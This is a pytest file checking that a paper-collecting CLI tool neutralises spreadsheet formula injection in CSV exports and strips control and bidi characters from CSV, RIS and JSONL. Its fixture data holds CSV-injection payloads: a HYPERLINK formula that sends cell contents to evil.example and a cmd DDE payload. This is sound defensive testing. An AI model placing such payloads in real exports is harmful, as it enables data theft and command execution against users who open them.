"""Hostile titles in exports: spreadsheet formulas are neutralised in every CSV cell (``export``
and ``search --csv``), and control, zero-width and bidi-override characters are cleaned from CSV,
RIS and JSON Lines the way the digest cleans them."""

from __future__ import annotations

import csv
import io
import json

import pytest
from click.testing import CliRunner

from bot.cli import cli
from bot.store import open_db, save_items

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Stiff person syndrome")', "+1+cmd|' /C calc'!A0",
            "-2+3 stiff person syndrome", "@SUM(1+1) stiff person syndrome", "\uff1dcmd stiff person syndrome"]
HIDDEN = "\x00\u202e\u200b\u2066\x1b"   # NUL, right-to-left override, zero-width space, isolate, ESC


@pytest.fixture
def hostile_store(tmp_path, monkeypatch):
    db_path = tmp_path / "spsbot.db"
    monkeypatch.setenv("SPSBOT_DB", str(db_path))
    db = open_db(db_path)
    save_items(db, [{"kind": "paper", "pmid": str(100 + i), "title": title,
                     "abstract": f"Stiff person syndrome{HIDDEN} case.", "authors": [f"=Evil{HIDDEN} A"],
                     "journal": "@Journal"} for i, title in enumerate(FORMULAS)], source="pubmed")
    db.close()
    return db_path


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_clean(text: str, where: str) -> None:
    for char in HIDDEN:
        assert char not in text, f"{char!r} left in {where}"


@pytest.mark.parametrize("command", [["export", "--format", "csv"],
                                     ["search", "stiff person syndrome", "--csv", "--no-semantic"]],
                         ids=["export", "search --csv"])
def test_no_csv_cell_starts_a_formula(hostile_store, command):
    result = CliRunner().invoke(cli, command)
    assert result.exit_code == 0, result.output
    cells = _cells(result.output)
    assert sum(1 for c in cells if c.startswith("'")) >= len(FORMULAS)     # the titles were there …
    risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\uff1d", "\t", "\r")]
    assert risky == [], risky                                             # … and none can run
    assert "'=HYPERLINK(" in result.output
    _assert_clean(result.output, " ".join(command))


@pytest.mark.parametrize("fmt", ["ris", "jsonl"])
def test_control_and_bidi_characters_are_cleaned_from_ris_and_jsonl(hostile_store, fmt):
    result = CliRunner().invoke(cli, ["export", "--format", fmt])
    assert result.exit_code == 0, result.output
    _assert_clean(result.output, fmt)
    if fmt == "jsonl":
        records = [json.loads(line) for line in result.output.splitlines()]
        _assert_clean(json.dumps(records, ensure_ascii=False), "decoded JSON")
        assert {r["title"] for r in records} == set(FORMULAS)   # JSON is data, not a sheet: text kept
        assert all(r["abstract"] == "Stiff person syndrome case." for r in records)
